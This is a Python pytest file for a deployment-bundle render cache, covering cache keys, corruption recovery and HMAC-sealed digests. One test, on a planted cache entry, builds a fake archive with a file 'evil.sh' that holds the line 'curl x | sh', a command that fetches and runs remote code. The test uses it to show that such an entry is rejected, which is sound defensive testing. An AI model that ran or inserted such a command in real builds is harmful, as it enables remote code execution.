"""generator.render.cache: an unchanged recipe is not rendered twice; any input change misses."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest

import generator.render as render
from generator.render import GitOpsTarget, archive_bytes, render_bundle
from generator.render.cache import cached_archive, render_key
from tests.test_render import MANIFESTS, sample_result


def _count_renders(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """`render.render_bundle` counted: the deployer of each call, in order."""
    calls: list[str] = []
    real = render.render_bundle

    def counting(*a, **kw):  # type: ignore[no-untyped-def]
        calls.append(str(a[1]))
        return real(*a, **kw)

    monkeypatch.setattr(render, "render_bundle", counting)
    return calls


def test_cache_hits_and_misses(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    real = render.render_bundle
    calls = _count_renders(monkeypatch)
    r = sample_result()
    first = cached_archive(r, "helm", MANIFESTS, cache_dir=tmp_path)
    second = cached_archive(r, "helm", MANIFESTS, cache_dir=tmp_path)
    assert first == second
    assert calls == ["helm"]  # the second came from the cache
    assert first == archive_bytes(real(r, "helm", MANIFESTS), "sample-recipe-standard-helm")
    cached_archive(r, "flux", MANIFESTS, cache_dir=tmp_path)
    cached_archive(replace(r, digest="sha256:" + "cd" * 32), "helm", MANIFESTS, cache_dir=tmp_path)
    cached_archive(r, "helm", MANIFESTS, cache_dir=tmp_path, mtime=5)
    assert calls == ["helm", "flux", "helm", "helm"]
    assert len(list(tmp_path.glob("*.tar.gz"))) == 4
    assert not list(tmp_path.glob(".tmp-*"))


def test_corrupt_cache_entry_is_rebuilt(tmp_path: Path) -> None:
    r = sample_result()
    good = cached_archive(r, "argocd", MANIFESTS, cache_dir=tmp_path)
    (entry,) = tmp_path.glob("*.tar.gz")
    entry.write_bytes(b"garbage")
    assert cached_archive(r, "argocd", MANIFESTS, cache_dir=tmp_path) == good
    # a corrupted body behind a valid gzip header is caught by the checksum too
    entry.write_bytes(good[:10] + bytes([good[10] ^ 0xFF]) + good[11:])
    assert cached_archive(r, "argocd", MANIFESTS, cache_dir=tmp_path) == good
    assert entry.read_bytes() == good


def test_planted_entry_with_a_matching_checksum_is_not_trusted(tmp_path: Path) -> None:
    """Whoever can write the cache directory cannot make the site publish their archive: the
    digest is sealed with an HMAC under this machine's key, which a planted entry cannot
    reproduce; a digest whose sum is not the bytes' is not taken either."""
    import hashlib

    from generator.render.cache import DIGEST

    r = sample_result()
    good = cached_archive(r, "helm", MANIFESTS, cache_dir=tmp_path)
    (entry,) = tmp_path.glob("*.tar.gz")
    (digest,) = tmp_path.glob(f"*{DIGEST}")
    assert sorted(p.name for p in tmp_path.iterdir()) == [entry.name, digest.name]  # no .hmac
    sealed = digest.read_text()
    planted = archive_bytes({"evil.sh": render.BundleFile(b"curl x | sh\n")}, "x")
    entry.write_bytes(planted)
    _, _, mac = sealed.split()
    digest.write_text(f"{hashlib.sha256(planted).hexdigest()} {len(planted)} {mac}\n")
    assert cached_archive(r, "helm", MANIFESTS, cache_dir=tmp_path) == good
    assert entry.read_bytes() == good and digest.read_text() == sealed
    # the right digest beside other bytes of the same size: the sum differs
    entry.write_bytes(good[:10] + bytes([good[10] ^ 0xFF]) + good[11:])
    assert cached_archive(r, "helm", MANIFESTS, cache_dir=tmp_path) == good
    assert entry.read_bytes() == good


def test_sweep_keeps_only_the_archives_used(tmp_path: Path) -> None:
    from generator.render.cache import entry_name, sweep

    r = sample_result()
    cached_archive(r, "helm", MANIFESTS, cache_dir=tmp_path)
    cached_archive(r, "flux", MANIFESTS, cache_dir=tmp_path)
    keep = entry_name(r, "flux", GitOpsTarget(), 0)
    (tmp_path / (keep + ".hmac")).write_text("a seal written before the digest sealed alone")
    assert sweep(tmp_path, {keep}) == 3  # the helm archive and its digest, the old seal
    assert sorted(p.name for p in tmp_path.iterdir()) == [keep, keep + ".digest"]


def test_key_depends_on_every_input() -> None:
    r = sample_result()
    t = GitOpsTarget()
    base = render_key(r, "helm", t, 0)
    assert base == render_key(r, "helm", t, 0)
    others = {
        render_key(r, "helmfile", t, 0),
        render_key(r, "helm", GitOpsTarget(revision="v1"), 0),
        render_key(r, "helm", t, 1),
        render_key(replace(r, digest="sha256:" + "00" * 32), "helm", t, 0),
    }
    assert base not in others and len(others) == 4


def test_no_cache_dir_renders_directly() -> None:
    r = sample_result()
    assert cached_archive(r, "helm", MANIFESTS, cache_dir=None) == archive_bytes(
        render_bundle(r, "helm", MANIFESTS), "sample-recipe-standard-helm"
    )


def test_the_renderer_fingerprint_covers_the_yaml_and_tar_writers() -> None:
    """The YAML writer lives in generator/fast, the tar writer in core/archive.py: a change to
    either must miss the cache."""
    from generator.core import archive
    from generator.fast import yamlwrite
    from generator.render import cache as render_cache

    assert Path(str(yamlwrite.__file__)).resolve().parent == render_cache._FAST
    assert Path(str(archive.__file__)).resolve() == render_cache._ARCHIVE


# --- sealed digests: an unchanged archive known without its bytes --------------------------------


def _reads(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The archives (`.tar.gz`) read through `safeio.read` from now on, by file name."""
    from generator.core import safeio

    read: list[str] = []
    real = safeio.read

    def counting(path, **kw):  # type: ignore[no-untyped-def]
        if str(path).endswith(".tar.gz"):
            read.append(Path(path).name)
        return real(path, **kw)

    monkeypatch.setattr(safeio, "read", counting)
    return read


def _never() -> bytes:
    raise AssertionError("rendered again")


def test_a_sealed_archive_is_known_by_its_digest_without_reading_its_bytes(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import hashlib

    from generator.render.cache import sealed_archive

    r = sample_result()
    good = cached_archive(r, "helm", MANIFESTS, cache_dir=tmp_path)
    read = _reads(monkeypatch)
    sealed = sealed_archive(r, "helm", _never, cache_dir=tmp_path)
    assert sealed is not None
    assert (sealed.sha256, sealed.size) == (hashlib.sha256(good).hexdigest(), len(good))
    assert read == []  # one small digest file and a stat: the archive is not read
    assert sealed.content() == good and len(read) == 1  # read only when asked for its bytes
    assert sealed_archive(r, "flux", _never, cache_dir=tmp_path) is None  # not in the cache


def test_an_entry_without_a_digest_is_not_in_the_cache(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The digest is the archive's only seal: without it the bytes are not taken (or read)."""
    from generator.render.cache import DIGEST, sealed_archive, stored_archive

    r = sample_result()
    good = cached_archive(r, "helm", MANIFESTS, cache_dir=tmp_path)
    (digest,) = tmp_path.glob(f"*{DIGEST}")
    digest.unlink()
    read = _reads(monkeypatch)
    assert sealed_archive(r, "helm", _never, cache_dir=tmp_path) is None
    assert stored_archive(r, "helm", cache_dir=tmp_path) is None
    assert read == []
    assert cached_archive(r, "helm", MANIFESTS, cache_dir=tmp_path) == good  # made again
    assert digest.is_file()
    assert sealed_archive(r, "helm", _never, cache_dir=tmp_path) is not None


def test_a_forged_digest_is_not_trusted(tmp_path: Path) -> None:
    """A digest written without this machine's key names nothing: the entry is not in the
    cache, and is rendered again (with its true digest)."""
    from generator.render.cache import DIGEST, sealed_archive

    r = sample_result()
    good = cached_archive(r, "helm", MANIFESTS, cache_dir=tmp_path)
    (digest,) = tmp_path.glob(f"*{DIGEST}")
    sha, size, mac = digest.read_text().split()
    digest.write_text(f"{'0' * 64} {size} {mac}\n")  # another archive's sum, the old MAC
    assert sealed_archive(r, "helm", _never, cache_dir=tmp_path) is None
    assert cached_archive(r, "helm", MANIFESTS, cache_dir=tmp_path) == good
    assert digest.read_text().split()[0] == sha
    # an archive of another size than its digest says is not taken either
    (entry,) = tmp_path.glob("*.tar.gz")
    entry.write_bytes(good + b"x")
    assert sealed_archive(r, "helm", _never, cache_dir=tmp_path) is None


def test_an_entry_that_lost_its_bytes_is_rendered_again_and_checked(tmp_path: Path) -> None:
    from generator.core.errors import RenderError
    from generator.render.cache import sealed_archive

    r = sample_result()
    good = cached_archive(r, "helm", MANIFESTS, cache_dir=tmp_path)
    sealed = sealed_archive(r, "helm", _never, cache_dir=tmp_path)
    assert sealed is not None
    (entry,) = tmp_path.glob("*.tar.gz")
    entry.write_bytes(good[:10] + bytes([good[10] ^ 0xFF]) + good[11:])  # same size, not sealed
    again = replace(sealed, again=lambda: cached_archive(r, "helm", MANIFESTS, cache_dir=tmp_path))
    assert again.content() == good and entry.read_bytes() == good
    entry.unlink()
    with pytest.raises(RenderError, match="not the one its sealed digest names"):
        replace(sealed, again=lambda: good + b"x").content()


def test_what_a_killed_writer_leaves_is_rendered_again(tmp_path: Path) -> None:
    """A new entry's files are written under their own names (`write_new_group`): a build
    killed while writing leaves a partly written archive (no digest yet) or a partly written
    digest; neither is taken, and the entry is made again, replaced atomically."""
    from generator.render.cache import DIGEST, sealed_archive, stored_archive

    r = sample_result()
    good = cached_archive(r, "helm", MANIFESTS, cache_dir=tmp_path)
    (entry,) = tmp_path.glob("*.tar.gz")
    (digest,) = tmp_path.glob(f"*{DIGEST}")
    line = digest.read_bytes()
    for cut in (0, 1, len(good) // 2, len(good) - 1):  # the archive cut short, no digest
        digest.unlink()
        entry.write_bytes(good[:cut])
        assert sealed_archive(r, "helm", _never, cache_dir=tmp_path) is None
        assert stored_archive(r, "helm", cache_dir=tmp_path) is None
        assert cached_archive(r, "helm", MANIFESTS, cache_dir=tmp_path) == good
        assert entry.read_bytes() == good and digest.read_bytes() == line
    for cut in (0, 1, 64, len(line) - 2):  # the digest cut short
        digest.write_bytes(line[:cut])
        assert sealed_archive(r, "helm", _never, cache_dir=tmp_path) is None
        assert stored_archive(r, "helm", cache_dir=tmp_path) is None
        assert cached_archive(r, "helm", MANIFESTS, cache_dir=tmp_path) == good
        assert digest.read_bytes() == line
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted([entry.name, digest.name])


def test_looked_renders_without_asking_the_cache_and_stores_the_same_entry(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`looked=True` (the render stage found no sealed entry just before): rendered, not read
    from the cache, and stored as without it; an entry stored meanwhile is replaced by the
    same bytes and stays sealed."""
    from generator.render.cache import DIGEST, stored_archive

    calls = _count_renders(monkeypatch)
    r = sample_result()
    plain, looked = tmp_path / "plain", tmp_path / "looked"
    good = cached_archive(r, "flux", MANIFESTS, cache_dir=plain)
    assert cached_archive(r, "flux", MANIFESTS, cache_dir=looked, looked=True) == good
    assert calls == ["flux", "flux"]
    assert {p.name: p.read_bytes() for p in looked.iterdir()} == {
        p.name: p.read_bytes() for p in plain.iterdir()
    }
    read = _reads(monkeypatch)
    assert cached_archive(r, "flux", MANIFESTS, cache_dir=looked, looked=True) == good
    assert calls == ["flux", "flux", "flux"] and read == []  # stored already: made again
    assert stored_archive(r, "flux", cache_dir=looked) == good
    assert len(list(looked.glob(f"*{DIGEST}"))) == 1
